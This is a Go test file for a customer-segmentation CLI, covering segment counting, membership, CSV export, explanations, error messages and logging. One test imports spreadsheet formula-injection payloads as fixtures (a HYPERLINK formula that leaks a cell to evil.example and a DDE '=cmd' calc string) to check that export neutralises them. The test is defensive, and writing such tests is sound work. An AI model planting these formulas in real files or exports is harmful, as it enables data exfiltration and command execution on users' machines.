package main

import (
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestSegmentCLI runs the segment commands as scripts do: import a few
// customers, count and list members of definitions and of saved
// segments, as of other times, export and explain.
func TestSegmentCLI(t *testing.T) {
	clearEnv(t)
	data := t.TempDir()
	events := strings.Join([]string{
		`{"type":"identify","userId":"ann","traits":{"email":"ann@example.com","country":"DE","birthday":"1990-06-03"},"timestamp":"2026-05-01T10:00:00Z"}`,
		`{"type":"identify","userId":"bob","traits":{"email":"bob@example.com","country":"FR"},"timestamp":"2026-05-01T10:00:00Z"}`,
		`{"type":"track","userId":"ann","event":"Order Completed","properties":{"order_id":"o1","revenue":40},"timestamp":"2026-05-02T10:00:00Z"}`,
		`{"type":"track","userId":"ann","event":"Order Completed","properties":{"order_id":"o2","revenue":60},"timestamp":"2026-05-20T10:00:00Z"}`,
		`{"type":"track","userId":"bob","event":"Order Completed","properties":{"order_id":"o3","revenue":15},"timestamp":"2026-05-21T10:00:00Z"}`,
	}, "\n")
	if r := runCLI(t, events, "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	count := func(args ...string) int {
		t.Helper()
		r := runCLI(t, "", append([]string{"segment", "count", "--data", data, "--json"}, args...)...)
		if r.code != 0 {
			t.Fatalf("segment count %v: exit %d: %s", args, r.code, r.stderr)
		}
		var out struct {
			Count *int `json:"count"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || out.Count == nil {
			t.Fatalf("segment count --json printed %q, want {\"count\": N}", r.stdout)
		}
		return *out.Count
	}
	for _, tc := range []struct {
		args []string
		want int
	}{
		{[]string{`count("Order Completed") >= 2`}, 1},
		{[]string{`sum("Order Completed".revenue) > 10`}, 2},
		{[]string{`count("Order Completed") >= 1`, "--as-of", "2026-05-10T00:00:00Z"}, 1},
		{[]string{`count("Order Completed") >= 1`, "--as-of", "2026-05-01"}, 0},
		{[]string{`birthday within next 7d`, "--as-of", "2026-05-30T12:00:00Z"}, 1},
		{[]string{`country = "DE" and not (count("Order Completed", within 7d) >= 1)`, "--as-of", "2026-05-21T11:00:00Z"}, 0},
	} {
		if got := count(tc.args...); got != tc.want {
			t.Errorf("segment count %q: %d, want %d", tc.args, got, tc.want)
		}
	}

	// A bad definition: the error names the position, exit code 1.
	r := runCLI(t, "", "segment", "count", "--data", data, `orders >=`)
	if r.code != 1 || !strings.Contains(r.stderr, "line 1, column") {
		t.Errorf("bad definition: exit %d, stderr %q", r.code, r.stderr)
	}

	r = runCLI(t, "", "segment", "create", "--data", data, "big spenders", `revenue >= 50`)
	if r.code != 0 || !strings.Contains(r.stdout, "1 members") {
		t.Fatalf("segment create: exit %d: %s %s", r.code, r.stdout, r.stderr)
	}
	r = runCLI(t, "", "segment", "members", "--data", data, "big spenders")
	if r.code != 0 || !strings.HasPrefix(r.stdout, "ann\t") || strings.Count(r.stdout, "\n") != 1 {
		t.Errorf("segment members: exit %d, stdout %q: want one line starting with ann's user_id", r.code, r.stdout)
	}
	r = runCLI(t, "", "segment", "members", "--data", data, `country in ("DE", "FR")`)
	if lines := strings.Split(strings.TrimSpace(r.stdout), "\n"); r.code != 0 || len(lines) != 2 || !strings.HasPrefix(lines[1], "bob\t") {
		t.Errorf("members of a definition: exit %d, stdout %q", r.code, r.stdout)
	}
	r = runCLI(t, "", "segment", "list", "--data", data)
	if r.code != 0 || !strings.Contains(r.stdout, "big spenders") || !strings.Contains(r.stdout, "revenue >= 50") {
		t.Errorf("segment list: %s %s", r.stdout, r.stderr)
	}
	r = runCLI(t, "", "segment", "export", "--data", data, "big spenders", "--hashed")
	if r.code != 0 || !strings.HasPrefix(r.stdout, "id,user_id,email,phone,email_sha256,phone_sha256\n") || !strings.Contains(r.stdout, "ann@example.com") {
		t.Errorf("segment export: %s %s", r.stdout, r.stderr)
	}
	r = runCLI(t, "", "segment", "explain", "--data", data, "big spenders", "bob@example.com")
	if r.code != 0 || !strings.Contains(r.stdout, "✗ revenue >= 50") || !strings.Contains(r.stdout, "revenue = 15") {
		t.Errorf("segment explain: %q %s", r.stdout, r.stderr)
	}
	r = runCLI(t, "", "segment", "create", "--data", data, "loop", `in segment "loop"`)
	if r.code != 1 || !strings.Contains(r.stderr, "refers to itself") {
		t.Errorf("a self-reference: exit %d, %s", r.code, r.stderr)
	}
	if r := runCLI(t, "", "segment", "delete", "--data", data, "big spenders"); r.code != 0 {
		t.Errorf("segment delete: %s", r.stderr)
	}
}

// TestSegmentExportFormulasCLI exports, through the CLI, customers whose
// identifiers are formulas: each such cell is written as text (a leading
// quote), an E.164 phone as it is, and the hash is of the stored email.
func TestSegmentExportFormulasCLI(t *testing.T) {
	clearEnv(t)
	data := t.TempDir()
	events := strings.Join([]string{
		`{"type":"identify","userId":"=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")","traits":{"email":"=cmd|'/ccalc'!a0@evil.example","phone":"+491701234567"},"timestamp":"2026-05-01T10:00:00Z"}`,
	}, "\n")
	if r := runCLI(t, events, "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	r := runCLI(t, "", "segment", "export", "--data", data, "--hashed", `email is set`)
	if r.code != 0 {
		t.Fatalf("segment export: exit %d: %s", r.code, r.stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v: %q", err, r.stdout)
	}
	sum := sha256.Sum256([]byte("=cmd|'/ccalc'!a0@evil.example"))
	want := []string{rows[1][0], `'=HYPERLINK("https://evil.example/?"&A2,"open")`, `'=cmd|'/ccalc'!a0@evil.example`, "+491701234567", hex.EncodeToString(sum[:])}
	if got := rows[1][:5]; !slices.Equal(got, want) {
		t.Errorf("row %q, want %q", got, want)
	}
}

// An ordinary command writes its answer on stdout and nothing on stderr:
// the engine's "workspace loaded" is a server's record, not a count's.
// --log-level info still asks for it.
func TestCommandsLogQuietly(t *testing.T) {
	clearEnv(t)
	data := t.TempDir()
	events := `{"type":"identify","userId":"ann","traits":{"country":"DE"},"timestamp":"2026-05-01T10:00:00Z"}`
	if r := runCLI(t, events, "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	r := runCLI(t, "", "segment", "count", `country = "DE"`, "--data", data)
	if r.code != 0 || strings.TrimSpace(r.stdout) != "1" {
		t.Fatalf("segment count: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	if r.stderr != "" {
		t.Errorf("segment count wrote on stderr:\n%s", r.stderr)
	}
	r = runCLI(t, "", "segment", "count", `country = "DE"`, "--data", data, "--log-level", "info")
	if r.code != 0 || !strings.Contains(r.stderr, "workspace loaded") {
		t.Errorf("segment count --log-level info: exit %d, stderr %q; want the engine's INFO line", r.code, r.stderr)
	}
}

// A field no feature or trait has is an error, with the name meant: a
// count of 0 would read like an answer. So is a segment that does not
// exist; an event nobody sent yet is not.
func TestSegmentUnknownNames(t *testing.T) {
	clearEnv(t)
	data := t.TempDir()
	events := `{"type":"identify","userId":"ann","traits":{"country":"DE"},"timestamp":"2026-05-01T10:00:00Z"}`
	if r := runCLI(t, events, "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	for _, tc := range []struct{ args, want []string }{
		{[]string{"count", "revenu > 3"}, []string{`unknown field "revenu"`, `did you mean "revenue"?`}},
		{[]string{"count", `countyr = "DE"`}, []string{`unknown field "countyr"`, `did you mean "country"?`}},
		{[]string{"members", `in segment "vips"`}, []string{`unknown segment "vips"`}},
		{[]string{"explain", "plan = 1", "ann"}, []string{`unknown field "plan": no feature or trait in this workspace has that name`}},
	} {
		r := runCLI(t, "", append(append([]string{"segment"}, tc.args...), "--data", data)...)
		if r.code != exitError || r.stdout != "" {
			t.Errorf("segment %q: exit %d, stdout %q, want exit 1 and nothing", tc.args, r.code, r.stdout)
		}
		for _, w := range tc.want {
			if !strings.Contains(r.stderr, w) {
				t.Errorf("segment %q: stderr %q, want %q", tc.args, r.stderr, w)
			}
		}
	}
	for _, text := range []string{`country = "DE"`, `traits.country = "DE"`, `count("Never Sent") = 0`} {
		if r := runCLI(t, "", "segment", "count", text, "--data", data); r.code != 0 || strings.TrimSpace(r.stdout) != "1" {
			t.Errorf("segment count %q: exit %d, stdout %q, stderr %q; want 1", text, r.code, r.stdout, r.stderr)
		}
	}
}

// The read commands record nothing: no membership changes (a stored
// segment's members moved since it was saved, and stay as recorded), and
// on an empty data directory no database and no workspace.
func TestSegmentReadsRecordNothing(t *testing.T) {
	clearEnv(t)
	empty := filepath.Join(t.TempDir(), "empty")
	r := runCLI(t, "", "segment", "count", "orders >= 1", "--data", empty)
	if r.code != exitError || !strings.Contains(r.stderr, "there is no database at") {
		t.Errorf("count on an empty data directory: exit %d, stderr %q", r.code, r.stderr)
	}
	if _, err := os.Stat(empty); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("count on an empty data directory made it: %v", err)
	}

	data := t.TempDir()
	order := func(user, id string) string {
		return `{"type":"track","userId":"` + user + `","event":"Order Completed","properties":{"order_id":"` + id + `","revenue":10},"timestamp":"2026-05-02T10:00:00Z"}`
	}
	if r := runCLI(t, order("ann", "o1"), "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	if r := runCLI(t, "", "segment", "create", "buyers", "orders >= 1", "--data", data); r.code != 0 {
		t.Fatalf("segment create: exit %d: %s", r.code, r.stderr)
	}
	if r := runCLI(t, order("bob", "o2"), "import", "events", "-", "--data", data, "--format", "ndjson"); r.code != 0 {
		t.Fatalf("import: exit %d: %s", r.code, r.stderr)
	}
	changes := func() int {
		st := openData(t, data)
		defer st.Close()
		var n int
		if err := st.DB().QueryRow("SELECT count(*) FROM membership_changes").Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	before := changes()
	for _, args := range [][]string{
		{"count", "buyers"}, {"count", "orders >= 1"}, {"members", "buyers"}, {"export", "buyers"},
		{"explain", "buyers", "bob"}, {"list"},
	} {
		r := runCLI(t, "", append(append([]string{"segment"}, args...), "--data", data)...)
		if r.code != 0 {
			t.Errorf("segment %q: exit %d: %s", args, r.code, r.stderr)
		}
	}
	if r := runCLI(t, "", "segment", "count", "buyers", "--data", data); strings.TrimSpace(r.stdout) != "2" {
		t.Errorf("segment count buyers = %q, want 2 (bob ordered since it was saved)", r.stdout)
	}
	if after := changes(); after != before {
		t.Errorf("the read commands recorded %d membership changes", after-before)
	}
}
